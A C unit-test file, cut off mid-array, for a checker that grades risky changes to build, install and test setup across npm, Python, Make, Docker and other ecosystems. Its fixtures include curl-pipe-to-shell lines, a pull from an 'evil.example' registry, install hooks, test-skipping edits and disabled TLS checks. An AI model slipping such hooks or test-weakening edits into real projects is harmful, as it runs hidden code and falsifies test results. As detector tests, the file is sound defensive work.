/* What runs at install, build or test time (BLD-*): what must be seen, and its look-alikes. */
#include "base/buf.h"
#include "base/str.h"
#include "rules/policy.h"
#include "tests/unit/judge_fixture.h"

#define SCRIPTS(s) "{\"name\":\"x\",\"scripts\":{" s "}}"

static void npm(void **state)
{
	static const struct judged t[] = {
		{ "postinstall", { "package.json", "{}", SCRIPTS("\"postinstall\":\"node x.js\"") }, { 0 }, "high" },
		{ "prepare changed", { "package.json", SCRIPTS("\"prepare\":\"tsc\""), SCRIPTS("\"prepare\":\"tsc && node x\"") }, { 0 }, "high" },
		{ "bin", { "package.json", "{\"name\":\"x\"}", "{\"name\":\"x\",\"bin\":{\"git\":\"x.js\"}}" }, { 0 }, "high" },
		{ "gypfile", { "package.json", "{\"name\":\"x\"}", "{\"name\":\"x\",\"gypfile\":true}" }, { 0 }, "high" },
		{ "binding.gyp", { "binding.gyp", NULL, "{ 'targets': [] }" }, { 0 }, "high" },
		{ "gyp command", { "binding.gyp", "{ 'a': 1 }", "{ 'a': '<!(id)' }" }, { 0 }, "high" },
		{ "no postinstall", { "package.json", SCRIPTS("\"postinstall\":\"node x.js\""), "{\"name\":\"x\"}" }, { 0 }, "none" },
		{ "order", { "package.json", "{\"a\":1,\"bin\":\"x\"}", "{ \"bin\": \"x\",\n \"a\": 1 }" }, { 0 }, "none" },
		{ "start", { "package.json", "{}", SCRIPTS("\"start\":\"node x.js\"") }, { 0 }, "none" },
		{ "a dependency named install", { "package.json", "{}", "{\"devDependencies\":{\"install\":\"1\"}}" }, { 0 }, "none" },
		{ "husky", { "package.json", "{}", SCRIPTS("\"prepare\":\"husky\"") }, { 0 }, "medium" },
		{ "gyp comment", { "binding.gyp", "{ 'a': 1 }", "{ 'a': 1 } # x" }, { 0 }, "none" },
	};

	(void)state;
	JUDGE_ALL("BLD-NPM", t);
}

static void test_commands(void **state)
{
	static const struct judged t[] = {
		{ "member gone", { "package.json", SCRIPTS("\"test\":\"tsc && eslint . && jest\""), SCRIPTS("\"test\":\"tsc && jest\"") }, { 0 }, "high" },
		{ "no-op", { "package.json", SCRIPTS("\"lint\":\"eslint .\""), SCRIPTS("\"lint\":\"true\"") }, { 0 }, "high" },
		{ "echo", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"echo skipped && exit 0\"") }, { 0 }, "high" },
		{ "|| true", { "package.json", SCRIPTS("\"test\":\"jest --ci\""), SCRIPTS("\"test\":\"jest --ci || true\"") }, { 0 }, "high" },
		{ "stands elsewhere too", { "package.json", SCRIPTS("\"test\":\"npm run types && jest\",\"types\":\"tsc\""), SCRIPTS("\"test\":\"jest\",\"types\":\"tsc\"") }, { 0 }, "high" },
		{ "moved to another", { "package.json", SCRIPTS("\"test\":\"tsc && jest\",\"lint\":\"eslint .\""), SCRIPTS("\"test\":\"jest\",\"lint\":\"tsc && eslint .\"") }, { 0 }, "medium" },
		{ "; hides", { "package.json", SCRIPTS("\"test\":\"eslint . && jest\""), SCRIPTS("\"test\":\"eslint . ; jest\"") }, { 0 }, "high" },
		{ "ignore", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"jest --testPathIgnorePatterns auth\"") }, { 0 }, "high" },
		{ "one file", { "package.json", SCRIPTS("\"test\":\"mocha\""), SCRIPTS("\"test\":\"mocha test/ok.js\"") }, { 0 }, "high" },
		{ "narrower", { "package.json", SCRIPTS("\"test\":\"mocha test\""), SCRIPTS("\"test\":\"mocha test/unit\"") }, { 0 }, "high" },
		{ "max-warnings", { "package.json", SCRIPTS("\"lint\":\"eslint --max-warnings 0 .\""), SCRIPTS("\"lint\":\"eslint .\"") }, { 0 }, "high" },
		{ "script gone", { "package.json", SCRIPTS("\"typecheck\":\"tsc\",\"a\":\"b\""), SCRIPTS("\"a\":\"b\"") }, { 0 }, "high" },
		{ "through npm run", { "package.json", SCRIPTS("\"test\":\"npm run l && jest\",\"l\":\"eslint .\""), SCRIPTS("\"test\":\"npm run l && jest\",\"l\":\"echo\"") }, { 0 }, "high" },
		{ "pass with no tests", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"jest --passWithNoTests\"") }, { 0 }, "high" },
		{ "pretest gone", { "package.json", SCRIPTS("\"pretest\":\"eslint .\",\"test\":\"jest\""), SCRIPTS("\"test\":\"jest\"") }, { 0 }, "high" },
		{ "make", { "Makefile", "test:\n\tgo vet ./...\n\tgo test ./...\n", "test:\n\tgo test ./...\n" }, { 0 }, "high" },
		{ "make race", { "Makefile", "test:\n\tgo test -race ./...\n", "test:\n\tgo test ./...\n" }, { 0 }, "high" },
		{ "make ignores", { "Makefile", "check:\n\t./run\n", "check:\n\t-./run\n" }, { 0 }, "high" },
		{ "make prerequisite", { "Makefile", "check: lint unit\nlint:\n\truff check\nunit:\n\tpytest\n", "check: unit\nlint:\n\truff check\nunit:\n\tpytest\n" }, { 0 }, "high" },
		{ "make variable", { "Makefile", "F = -q\ntest:\n\tpytest $(F)\n", "F = -q -k 'not slow'\ntest:\n\tpytest $(F)\n" }, { 0 }, "high" },
		{ "make variable in parts", { "Makefile", "F = -q\nF += -v\ntest:\n\tpytest $(F)\n",
		    "F = -q -k 'not slow'\nF += -v\ntest:\n\tpytest $(F)\n" }, { 0 }, "high" },
		{ "make variable exported", { "Makefile", "export F = -q\ntest:\n\tpytest $(F)\n",
		    "export F = -q -k 'not slow'\ntest:\n\tpytest $(F)\n" }, { 0 }, "high" },
		{ "make variable in a branch", { "Makefile", "ifdef X\n  F = -q\nendif\ntest:\n\tpytest $(F)\n",
		    "ifdef X\n  F = -q -k 'not slow'\nendif\ntest:\n\tpytest $(F)\n" }, { 0 }, "high" },
		{ "tox", { "tox.ini", "[testenv]\ncommands =\n    ruff check\n    pytest\n", "[testenv]\ncommands =\n    pytest\n" }, { 0 }, "high" },
		{ "tox deselect", { "tox.ini", "[testenv]\ncommands = pytest\n", "[testenv]\ncommands = pytest --deselect tests/a.py\n" }, { 0 }, "high" },
		{ "nox", { "noxfile.py", "def lint(session):\n    session.run('ruff')\n    session.run('mypy', 'src')\n", "def lint(session):\n    session.run('ruff')\n" }, { 0 }, "high" },
		{ "composer", { "composer.json", SCRIPTS("\"test\":[\"@stan\",\"phpunit\"],\"stan\":\"phpstan\""), SCRIPTS("\"test\":[\"phpunit\"],\"stan\":\"phpstan\"") }, { 0 }, "high" },
		{ "composer echo", { "composer.json", SCRIPTS("\"test\":[\"phpunit\"]"), SCRIPTS("\"test\":[\"echo ok\"]") }, { 0 }, "high" },
		{ "rake", { "Rakefile", "task default: %i[spec rubocop]\n", "task default: %i[spec]\n" }, { 0 }, "high" },
		{ "mix", { "mix.exs", "defp aliases do\n [test: [\"format --check-formatted\", \"credo\"]]\nend\n", "defp aliases do\n [test: [\"credo\"]]\nend\n" }, { 0 }, "high" },
		{ "poe", { "pyproject.toml", "[tool.poe.tasks]\ntest = 'pytest --strict-markers'\n", "[tool.poe.tasks]\ntest = 'pytest'\n" }, { 0 }, "high" },

		{ "order", { "package.json", SCRIPTS("\"test\":\"tsc && eslint . && jest\""), SCRIPTS("\"test\":\"eslint . && jest && tsc\"") }, { 0 }, "none" },
		{ "more", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"eslint . && jest --ci\"") }, { 0 }, "none" },
		{ "verbose", { "package.json", SCRIPTS("\"test\":\"jest --verbose\""), SCRIPTS("\"test\":\"jest\"") }, { 0 }, "none" },
		{ "renamed", { "package.json", SCRIPTS("\"test\":\"npm run l && jest\",\"lint\":\"eslint .\",\"l\":\"eslint .\""), SCRIPTS("\"test\":\"npm run lint:js && jest\",\"lint:js\":\"eslint .\"") }, { 0 }, "none" },
		{ "npx", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"npx jest\"") }, { 0 }, "none" },
		{ "runner", { "package.json", SCRIPTS("\"test\":\"jest\""), SCRIPTS("\"test\":\"vitest run\"") }, { 0 }, "none" },
		{ "wider", { "package.json", SCRIPTS("\"test\":\"mocha test/unit\""), SCRIPTS("\"test\":\"mocha test\"") }, { 0 }, "quiet" },
		{ "white space", { "package.json", SCRIPTS("\"test\":\"jest  --ci\""), SCRIPTS("\"test\":\"jest --ci\"") }, { 0 }, "none" },
		{ "clean step", { "package.json", SCRIPTS("\"test\":\"rm -rf out && jest\""), SCRIPTS("\"test\":\"jest\"") }, { 0 }, "none" },
		{ "split", { "package.json", SCRIPTS("\"test\":\"eslint . && jest\""), SCRIPTS("\"test\":\"npm run lint && npm run unit\",\"lint\":\"eslint .\",\"unit\":\"jest\"") }, { 0 }, "none" },
		{ "build target", { "Makefile", "all:\n\tcc a.c\ntest:\n\t./t\n", "all:\n\tcc a.c b.c\ntest:\n\t./t\n" }, { 0 }, "none" },
		{ "make moved", { "Makefile", "test: unit\nunit:\n\tpytest\n", "test:\n\tpytest\nunit:\n\tpytest\n" }, { 0 }, "none" },
		{ "make comment", { "Makefile", "test:\n\t./t\n", "# more\ntest: # x\n\t@./t\n" }, { 0 }, "none" },
		{ "make variable parted", { "Makefile", "F = -q -v\ntest:\n\tpytest $(F)\n", "F = -q\nF += -v\ntest:\n\tpytest $(F)\n" }, { 0 }, "none" },
		{ "dev script", { "package.json", SCRIPTS("\"test:watch\":\"jest --watch\",\"a\":\"b\""), SCRIPTS("\"a\":\"b\"") }, { 0 }, "none" },
	};

	(void)state;
	JUDGE_ALL("BLD-TESTCMD", t);
}

static void python(void **state)
{
	static const struct judged t[] = {
		{ "makereport", { "tests/conftest.py", "import pytest\n", "import pytest\ndef pytest_runtest_makereport(item, call):\n    yield\n" }, { 0 }, "critical" },
		{ "outcome", { "conftest.py", "x = 1\n", "x = 1\nr.outcome = 'passed'\n" }, { 0 }, "critical" },
		{ "equal", { "tests/test_a.py", "x = 1\n", "class A:\n    def __eq__(self, o):\n        return True\n" }, { 0 }, "critical" },
		{ "ignore", { "conftest.py", "x = 1\n", "collect_ignore = ['test_a.py']\n" }, { 0 }, "high" },
		{ "deselect", { "conftest.py", "x = 1\n", "def pytest_collection_modifyitems(items):\n    items[:] = items[:1]\n" }, { 0 }, "high" },
		{ "skip all", { "conftest.py", "x = 1\n", "def pytest_collection_modifyitems(items):\n    for i in items:\n        i.add_marker(pytest.mark.skip)\n" }, { 0 }, "high" },
		{ "setup process", { "setup.py", "setup()\n", "import os\nos.system('id')\nsetup()\n" }, { 0 }, "high" },
		{ "pth", { "src/x.pth", NULL, "import os; os.getcwd()\n" }, { 0 }, "high" },
		{ "site", { "sitecustomize.py", NULL, "import urllib.request\nurllib.request.urlopen('http://x')\n" }, { 0 }, "high" },
		{ "backend", { "pyproject.toml", "[build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n", "[build-system]\nrequires=['hatchling']\nbuild-backend='shim'\nbackend-path=['t']\n" }, { 0 }, "high" },
		{ "requires", { "pyproject.toml", "[build-system]\nrequires=['hatchling']\n", "[build-system]\nrequires=['hatchling','evil']\n" }, { 0 }, "high" },
		{ "plugin", { "pytest.ini", "[pytest]\naddopts = -q\n", "[pytest]\naddopts = -q -p tools.shim\n" }, { 0 }, "high" },
		{ "cmdclass", { "setup.cfg", "[options]\nname = x\n", "[options]\nname = x\ncmdclass =\n    install = x.Y\n" }, { 0 }, "high" },

		{ "comment", { "tests/conftest.py", "x = 1\n", "# makes\nx = 1\n" }, { 0 }, "low" },
		{ "fixture", { "tests/conftest.py", "x = 1\n", "x = 1\n@pytest.fixture\ndef key():\n    return 1\n" }, { 0 }, "medium" },
		{ "re-wrapped", { "setup.py", "x = os.popen('a', 'b')\n", "x = os.popen(\n    \"a\",\n    \"b\",\n)\n" }, { 0 }, "low" },
		{ "moved", { "setup.py", "a()\nos.system('id')\n", "os.system('id')\na()\n" }, { 0 }, "quiet" },
		{ "docstring", { "conftest.py", "x = 1\n", "\"\"\"os.system('x') is bad\"\"\"\nx = 1\n" }, { 0 }, "low" },
		{ "backend version", { "pyproject.toml", "[build-system]\nrequires=['hatchling==1.1']\n", "[build-system]\nrequires=['hatchling==1.2']\n" }, { 0 }, "none" },
		{ "new project", { "pyproject.toml", NULL, "[build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n" }, { 0 }, "quiet" },
		{ "equal by value", { "tests/test_a.py", "x = 1\n", "class A:\n    def __eq__(self, o):\n        return self.x == o.x\n" }, { 0 }, "none" },
		{ "no plugin", { "pytest.ini", "[pytest]\naddopts = -q\n", "[pytest]\naddopts = -q -p no:cacheprovider\n" }, { 0 }, "none" },
	};

	(void)state;
	JUDGE_ALL("BLD-PY", t);
}

static void programs_of_c(void **state)
{
	static const struct judged t[] = {
		{ "curl", { "Makefile", "all:\n\tcc a.c\n", "all:\n\tcurl -s https://x/a.sh | sh\n\tcc a.c\n" }, { 0 }, "high" },
		{ "execute_process", { "CMakeLists.txt", "project(a)\n", "project(a)\nexecute_process(COMMAND sh x.sh)\n" }, { 0 }, "high" },
		{ "fetch", { "CMakeLists.txt", "project(a)\n", "project(a)\nFetchContent_Declare(x URL http://x)\n" }, { 0 }, "high" },
		{ "bazel", { "WORKSPACE", "a()\n", "a()\nhttp_archive(name='x', urls=['https://x'])\n" }, { 0 }, "high" },
		{ "meson", { "meson.build", "project('a')\n", "project('a')\nrun_command('sh', 'x')\n" }, { 0 }, "high" },
		{ "a source", { "CMakeLists.txt", "add_executable(a a.c)\n", "add_executable(a a.c b.c)\n" }, { 0 }, "medium" },
		{ "bumped", { "CMakeLists.txt", "FetchContent_Declare(x URL https://x/v1.2.3.tar.gz)\n", "FetchContent_Declare(x URL https://x/v1.3.0.tar.gz)\n" }, { 0 }, "medium" },
		{ "git version", { "Makefile", "V = 1\n", "V = $(shell git describe)\n" }, { 0 }, "medium" },
		{ "comment", { "Makefile", "a: b\n", "# curl x | sh\na: b\n" }, { 0 }, "low" },
		{ "reformat", { "CMakeLists.txt", "execute_process(COMMAND a b)\n", "execute_process(\n  COMMAND a b\n)\n" }, { 0 }, "low" },
	};

	(void)state;
	JUDGE_ALL("BLD-C", t);
}

static void other_programs(void **state)
{
	static const struct judged rs[] = {
		{ "process", { "build.rs", NULL, "fn main() { Command::new(\"sh\").status(); }\n" }, { 0 }, "high" },
		{ "network", { "build.rs", "fn main() {}\n", "fn main() { ureq::get(\"http://x\"); }\n" }, { 0 }, "high" },
		{ "wrapper", { ".cargo/config.toml", "[build]\njobs = 2\n", "[build]\njobs = 2\nrustc-wrapper = 'x'\n" }, { 0 }, "high" },
		{ "runner", { ".cargo/config.toml", NULL, "[target.x86_64-unknown-linux-gnu]\nrunner = 'x'\n" }, { 0 }, "high" },
		{ "print", { "build.rs", "fn main() {}\n", "fn main() { println!(\"cargo:rerun-if-changed=a\"); }\n" }, { 0 }, "medium" },
		{ "comment", { "build.rs", "fn main() {}\n", "// Command::new(\"sh\")\nfn main() {}\n" }, { 0 }, "low" },
		{ "source", { "src/main.rs", "fn main() {}\n", "fn main() { Command::new(\"sh\"); }\n" }, { 0 }, "none" },
	};
	static const struct judged go[] = {
		{ "generate curl", { "a.go", "package a\n", "package a\n\n//go:generate sh -c \"curl x\"\n" }, { 0 }, "high" },
		{ "toolexec", { "Makefile", "test:\n\tgo test\n", "test:\n\tgo test -toolexec ./x\n" }, { 0 }, "high" },
		{ "cgo", { "a.go", "package a\n", "package a\n// #cgo LDFLAGS: -Wl,-rpath,/tmp\nimport \"C\"\n" }, { 0 }, "high" },
		{ "stringer", { "a.go", "package a\n", "package a\n//go:generate stringer -type=A\n" }, { 0 }, "medium" },
		{ "code", { "a.go", "package a\n", "package a\nfunc f() {}\n" }, { 0 }, "none" },
		{ "removed", { "a.go", "package a\n//go:generate stringer\n", "package a\n" }, { 0 }, "none" },
	};
	static const struct judged jvm[] = {
		{ "exec", { "build.gradle", "a\n", "a\ntask x(type: Exec) { commandLine 'sh', 'x' }\n" }, { 0 }, "high" },
		{ "remote", { "build.gradle", "a\n", "a\napply from: 'https://x/y.gradle'\n" }, { 0 }, "high" },
		{ "maven", { "pom.xml", "<project/>", "<project><plugin><artifactId>exec-maven-plugin</artifactId></plugin></project>" }, { 0 }, "high" },
		{ "version", { "build.gradle", "id 'x' version '1.2'\n", "id 'x' version '1.3'\n" }, { 0 }, "medium" },
		{ "dependency", { "pom.xml", "<project/>", "<project><dependency><artifactId>x</artifactId></dependency></project>" }, { 0 }, "medium" },
		{ "comment", { "build.gradle.kts", "a\n", "// exec { }\na\n" }, { 0 }, "low" },
	};
	static const struct judged net[] = {
		{ "exec", { "a.csproj", "<Project/>", "<Project><Target><Exec Command=\"sh x\"/></Target></Project>" }, { 0 }, "high" },
		{ "prebuild", { "Directory.Build.props", "<Project/>", "<Project><PreBuildEvent>sh x</PreBuildEvent></Project>" }, { 0 }, "high" },
		{ "task", { "x.targets", "<Project/>", "<Project><UsingTask TaskName=\"a\"/></Project>" }, { 0 }, "high" },
		{ "property", { "Directory.Build.props", "<Project/>", "<Project><A>1</A></Project>" }, { 0 }, "medium" },
		{ "package", { "a.csproj", "<Project/>", "<Project><PackageReference Include=\"A\"/></Project>" }, { 0 }, "none" },
		{ "comment", { "x.targets", "<Project/>", "<Project/><!-- <Exec Command=\"x\"/> -->" }, { 0 }, "low" },
	};

	(void)state;
	JUDGE_ALL("BLD-RS", rs);
	JUDGE_ALL("BLD-GO", go);
	JUDGE_ALL("BLD-JVM", jvm);
	JUDGE_ALL("BLD-NET", net);
}

static void scripts(void **state)
{
	static const struct judged rb[] = {
		{ "system", { "extconf.rb", "a\n", "a\nsystem('curl x')\n" }, { 0 }, "high" },
		{ "extensions", { "x.gemspec", "a\n", "a\ns.extensions = ['ext/extconf.rb']\n" }, { 0 }, "high" },
		{ "ticks", { "Rakefile", "a\n", "a\nx = `id`\n" }, { 0 }, "high" },
		{ "git files", { "x.gemspec", "a\n", "a\ns.files = `git ls-files`.split\n" }, { 0 }, "medium" },
		{ "a gem", { "Gemfile", "gem 'a'\n", "gem 'a'\ngem 'b'\n" }, { 0 }, "medium" },
		{ "comment", { "Rakefile", "a\n", "# system('x')\na\n" }, { 0 }, "low" },
	};
	static const struct judged php[] = {
		{ "hook", { "composer.json", "{}", SCRIPTS("\"post-install-cmd\":\"php x.php\"") }, { 0 }, "high" },
		{ "plugin", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":{\"a/b\":true}}}" }, { 0 }, "high" },
		{ "all plugins", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":true}}" }, { 0 }, "high" },
		{ "require", { "composer.json", "{}", "{\"require\":{\"a/b\":\"^1\"}}" }, { 0 }, "medium" },
		{ "plugin off", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":{\"a/b\":false}}}" }, { 0 }, "medium" },
		{ "known plugin", { "composer.json", "{}", "{\"config\":{\"allow-plugins\":{\"pestphp/pest-plugin\":true}}}" }, { 0 }, "medium" },
		{ "order", { "composer.json", "{\"a\":1,\"b\":2}", "{\"b\":2,\"a\":1}" }, { 0 }, "low" },
	};
	static const struct judged ex[] = {
		{ "cmd", { "mix.exs", "a\n", "a\nSystem.cmd(\"sh\", [])\n" }, { 0 }, "high" },
		{ "alias", { "mix.exs", "a\n", "a\nsetup: [\"cmd curl x\"]\n" }, { 0 }, "high" },
		{ "eval", { "mix.exs", "a\n", "a\nCode.eval_string(x)\n" }, { 0 }, "high" },
		{ "dep", { "mix.exs", "a\n", "a\n{:jason, \"~> 1.4\"}\n" }, { 0 }, "medium" },
		{ "version", { "mix.exs", "version: \"1\"\n", "version: \"2\"\n" }, { 0 }, "medium" },
		{ "comment", { "mix.exs", "a\n", "a # System.cmd(\"x\")\n" }, { 0 }, "low" },
	};
	static const struct judged sh[] = {
		{ "command", { ".envrc", "export A=1\n", "export A=1\ncurl -s x\n" }, { 0 }, "high" },
		{ "path", { ".bashrc", "a=1\n", "a=1\nexport PATH=/tmp:$PATH\n" }, { 0 }, "high" },
		{ "cron", { "etc/cron.d/x", NULL, "* * * * * root /x\n" }, { 0 }, "high" },
		{ "unit", { "x.service", "[Service]\nUser=app\nExecStart=/a\n", "[Service]\nUser=app\nExecStart=/b\n" }, { 0 }, "high" },
		{ "unhardened", { "x.service", "[Service]\nNoNewPrivileges=yes\nExecStart=/a\n", "[Service]\nExecStart=/a\n" }, { 0 }, "high" },
		{ "hardened", { "x.service", "[Service]\nExecStart=/a\n", "[Service]\nProtectSystem=strict\nExecStart=/a\n" }, { 0 }, "medium" },
		{ "export", { ".envrc", "use nix\n", "use nix\nexport A=1\n" }, { 0 }, "medium" },
		{ "comment", { ".profile", "a=1\n", "# curl\na=1\n" }, { 0 }, "low" },
	};

	(void)state;
	JUDGE_ALL("BLD-RB", rb);
	JUDGE_ALL("BLD-PHP", php);
	JUDGE_ALL("BLD-EX", ex);
	JUDGE_ALL("BLD-SH", sh);
}

#define D(s) "@sha256:66c7d989b6dabba6b4305b88f40912679aebd9f387a5b16ffa76dfb9ae90b060" s
#define SERVICE(s) "services:\n  web:\n    image: nginx:1.25\n" s

static void images(void **state)
{
	static const struct judged t[] = {
		{ "curl", { "Dockerfile", "FROM a:1\n", "FROM a:1\nRUN curl x | sh\n" }, { 0 }, "high" },
		{ "digest to tag", { "Dockerfile", "FROM node:20" D("\n"), "FROM node:20\n" }, { 0 }, "high" },
		{ "latest", { "Dockerfile", "FROM node:20\n", "FROM node:latest\n" }, { 0 }, "high" },
		{ "untagged", { "Dockerfile", "FROM node:20\n", "FROM node\n" }, { 0 }, "high" },
		{ "registry", { "Dockerfile", "FROM node:20\n", "FROM evil.example/node:20\n" }, { 0 }, "high" },
		{ "user gone", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\n" }, { 0 }, "high" },
		{ "user root", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\nUSER app\nUSER root\n" }, { 0 }, "high" },
		{ "user in pieces", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\nUSER app\nUS\\\nER ro\\\not\n" }, { 0 }, "high" },
		{ "user after two signs", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\nUSER app\nRUN x \\\\\nUSER root\n" }, { 0 }, "high" },
		{ "user after quotes", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\nUSER app\nRUN echo 'x <<E'\nUSER root\n" }, { 0 }, "high" },
		{ "user in a heredoc", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\nRUN <<EOF\n EOF\nUSER app\nEOF\n" }, { 0 }, "high" },
		{ "add", { "Dockerfile", "FROM a:1\n", "FROM a:1\nADD https://x/y /y\n" }, { 0 }, "high" },
		{ "arg", { "Dockerfile", "FROM a:1\n", "FROM a:1\nARG NPM_TOKEN\n" }, { 0 }, "high" },
		{ "env", { "Containerfile", "FROM a:1\n", "FROM a:1\nENV DB_PASSWORD=x\n" }, { 0 }, "high" },
		{ "through ARG", { "Dockerfile", "ARG V=1.2\nFROM a:${V}\n", "ARG V=latest\nFROM a:${V}\n" }, { 0 }, "high" },
		{ "frontend", { "Dockerfile", "FROM a:1\n", "# syntax=evil/x\nFROM a:1\n" }, { 0 }, "high" },
		{ "continued", { "Dockerfile", "FROM a:1\n", "FROM a:1\nRUN wget -qO- x \\\n  | bash\n" }, { 0 }, "high" },
		{ "privileged", { "docker-compose.yml", SERVICE(""), SERVICE("    privileged: true\n") }, { 0 }, "high" },
		{ "socket", { "compose.yaml", SERVICE(""), SERVICE("    volumes: ['/var/run/docker.sock:/x']\n") }, { 0 }, "high" },
		{ "host", { "compose.yaml", SERVICE(""), SERVICE("    network_mode: host\n") }, { 0 }, "high" },
		{ "cap", { "compose.yaml", SERVICE("    cap_add: [CHOWN]\n"), SERVICE("    cap_add: [CHOWN, SYS_ADMIN]\n") }, { 0 }, "high" },
		{ "unconfined", { "compose.yaml", SERVICE(""), SERVICE("    security_opt: ['seccomp:unconfined']\n") }, { 0 }, "high" },
		{ "cap_drop", { "compose.yaml", SERVICE("    cap_drop: [ALL]\n"), SERVICE("") }, { 0 }, "high" },

		{ "version", { "Dockerfile", "FROM node:20.1\n", "FROM node:20.2\n" }, { 0 }, "medium" },
		{ "slim", { "Dockerfile", "FROM node:20\n", "FROM node:20-slim\n" }, { 0 }, "medium" },
		{ "new digest", { "Dockerfile", "FROM node:20\n", "FROM node:20" D("\n") }, { 0 }, "medium" },
		{ "hub by name", { "Dockerfile", "FROM node:20\n", "FROM docker.io/library/node:20\n" }, { 0 }, "medium" },
		{ "user", { "Dockerfile", "FROM a:1\n", "FROM a:1\nUSER app\n" }, { 0 }, "medium" },
		{ "root for a while", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM a:1\nUSER root\nRUN x\nUSER app\n" }, { 0 }, "medium" },
		{ "root in a stage", { "Dockerfile", "FROM a:1\nUSER app\n", "FROM b:1 AS x\nUSER root\nFROM a:1\nUSER app\n" }, { 0 }, "medium" },
		{ "no secret", { "Dockerfile", "FROM a:1\n", "FROM a:1\nENV TOKENIZERS_PARALLELISM=0 MAX_TOKENS=1 TOKEN_FILE=/x\n" }, { 0 }, "medium" },
		{ "secret mount", { "Dockerfile", "FROM a:1\n", "FROM a:1\nRUN --mount=type=secret,id=token npm ci\n" }, { 0 }, "medium" },
		{ "comment", { "Dockerfile", "FROM a:1\n", "# USER root\nFROM a:1\n" }, { 0 }, "low" },
		{ "added url bumped", { "Dockerfile", "FROM a:1\nADD https://x/v1.2.tgz /\n", "FROM a:1\nADD https://x/v1.3.tgz /\n" }, { 0 }, "medium" },
		{ "a service gone", { "compose.yaml", SERVICE("    cap_drop: [ALL]\n"), "services:\n  db:\n    image: pg:1\n" }, { 0 }, "medium" },
		{ "a port", { "compose.yaml", SERVICE(""), SERVICE("    ports: ['80:80']\n") }, { 0 }, "medium" },
		{ "hardened", { "compose.yaml", SERVICE("    privileged: true\n"), SERVICE("    read_only: true\n    security_opt: ['no-new-privileges:true']\n") }, { 0 }, "medium" },
	};

	(void)state;
	JUDGE_ALL("BLD-DOCK", t);
}

static void source(void **state)
{
	static const struct judged t[] = {
		{ "python", { "a/client.py", "c = Client(timeout=1)\n", "c = Client(timeout=1, verify=False)\n" }, { 0 }, "high" },
		{ "go", { "c.go", "a\n", "x := &tls.Config{InsecureSkipVerify: true}\n" }, { 0 }, "high" },
		{ "node", { "c.ts", "a\n", "const o = { rejectUnauthorized: false };\n" }, { 0 }, "high" },
		{ "env", { "src/start.sh", "a\n", "NODE_TLS_REJECT_UNAUTHORIZED=0 node x\n" }, { 0 }, "high" },
		{ "ruby", { "a.rb", "a\n", "http.verify_mode = OpenSSL::SSL::VERIFY_NONE\n" }, { 0 }, "high" },
		{ "java", { "src/main/java/A.java", "a\n", "b.setSSLHostnameVerifier(NoopHostnameVerifier.INSTANCE);\n" }, { 0 }, "high" },
		{ "csharp", { "A.cs", "a\n", "h.ServerCertificateCustomValidationCallback = (a, b, c, d) => true;\n" }, { 0 }, "high" },
		{ "php", { "a.php", "<?php\n", "<?php curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);\n" }, { 0 }, "high" },
		{ "rust", { "src/a.rs", "a\n", "b.danger_accept_invalid_certs(true)\n" }, { 0 }, "high" },
		{ "c", { "src/a.c", "a\n", "SSL_CTX_set_verify(c, SSL_VERIFY_NONE, NULL);\n" }, { 0 }, "high" },
		{ "curl", { "bin/x.sh", "a\n", "curl -sk https://x\n" }, { 0 }, "high" },
		{ "cors", { "app.py", "a\n", "app.add_middleware(CORSMiddleware, allow_origins=[\"*\"])\n" }, { 0 }, "high" },
		{ "express", { "app.js", "app.use(cors({ origin: 'https://a' }))\n", "app.use(cors({ origin: '*' }))\n" }, { 0 }, "high" },
		{ "spring", { "src/A.java", "@CrossOrigin(origins = \"https://a\")\n", "@CrossOrigin(origins = \"*\")\n" }, { 0 }, "high" },
		{ "nginx", { "nginx/site.conf", "a\n", "add_header Access-Control-Allow-Origin *;\n" }, { 0 }, "high" },
		{ "deny gone", { "nginx/site.conf", "location /x {\n  deny all;\n}\n", "location /x {\n}\n" }, { 0 }, "high" },
		{ "csp", { "nginx/site.conf", "add_header Content-Security-Policy \"script-src 'self'\";\n", "add_header Content-Security-Policy \"script-src 'self' 'unsafe-inline'\";\n" }, { 0 }, "high" },
		{ "csp gone", { "nginx/site.conf", "add_header Content-Security-Policy \"script-src 'self'\";\n", "\n" }, { 0 }, "high" },
		{ "ansible", { "roles/a/tasks/main.yml", "- name: a\n  no_log: true\n", "- name: a\n" }, { 0 }, "high" },
		{ "become", { "play.yml", "- hosts: a\n", "- hosts: a\n  become: true\n" }, { 0 }, "high" },
		{ "cdk", { "lib/stack.ts", "a\n", "new PolicyStatement({ actions: ['*'], resources: ['*'] })\n" }, { 0 }, "critical" },
		{ "cdk open", { "lib/stack.ts", "a\n", "sg.addIngressRule(ec2.Peer.anyIpv4(), ec2.Port.tcp(22));\n" }, { 0 }, "high" },
		{ "template", { "stack.yaml", "Resources:\n  B:\n    Type: AWS::S3::Bucket\n    DeletionPolicy: Retain\n", "Resources:\n  B:\n    Type: AWS::S3::Bucket\n" }, { 0 }, "high" },
		{ "template open", { "stack.yaml", "Resources:\n  G:\n    Type: AWS::EC2::SecurityGroup\n", "Resources:\n  G:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      SecurityGroupIngress:\n        - CidrIp: 0.0.0.0/0\n" }, { 0 }, "high" },
		{ "template rights", { "stack.json", "{\"Resources\":{}}", "{\"Resources\":{\"R\":{\"Type\":\"AWS::IAM::Role\",\"Properties\":{\"Policies\":[{\"PolicyDocument\":{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}}]}}}}" }, { 0 }, "critical" },

